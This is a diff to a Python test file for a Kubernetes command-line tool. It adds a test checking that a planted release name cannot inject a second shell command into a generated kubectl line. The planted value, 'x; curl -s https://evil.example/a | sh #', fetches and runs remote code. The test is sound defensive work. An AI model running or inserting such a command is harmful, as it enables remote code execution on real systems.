@@ -12,13 +12,14 @@ from controller.mails.policy import Notification
 from controller.mails.render import MailRenderer, external_text
 from counterfoil.cli.plugin.installation.status import Reading, overview
 from counterfoil.cli.plugin.why import explain
-from counterfoil.i18n.attention import AttentionItem, AttentionKind, ClusterSnapshot
+from counterfoil.i18n.attention import AttentionItem, AttentionKind, ClusterSnapshot, attention_items
 from counterfoil.i18n.commands import commands_about, commands_in, without_commands
 from counterfoil.i18n.reasons import CATALOGUE
 from counterfoil.kube.secret import Placeholder, SecretUse, create_commands, label_command
 from counterfoil.metrics import MailKind
 from counterfoil.origin import annotate_command
 from counterfoil.resources import Language, Phase
+from counterfoil.resources.lease import UnheldShard
 from tests.support.builders import NOON, EventBuilder, an_organization
 from tests.support.scenes.console_parts import an_archive_that, an_organization_that
 from tests.support.scenes.notifications import MAILS, a_problem
@@ -168,6 +169,13 @@ def test_a_lost_sealing_key_names_the_way_to_the_consent_of_each_sender(count: i
         "kubectl -n tests get senders",
         *(f"kubectl counterfoil -n tests consent {each}" for each in names),
     ]
+
+
+def test_the_namespace_of_a_release_ends_no_command() -> None:
+    planted = "x; curl -s https://evil.example/a | sh #"
+    snapshot = ClusterSnapshot(unheld_shards=(UnheldShard(release=planted),))
+    ((command,),) = (commands_about(each, "unit-a") for each in attention_items(snapshot))
+    assert shlex.split(command.line)[:3] == ["kubectl", "-n", planted]
 
 
 SKIPS = {"en": "skip the event", "de": "überspringen", "it": "saltare"}
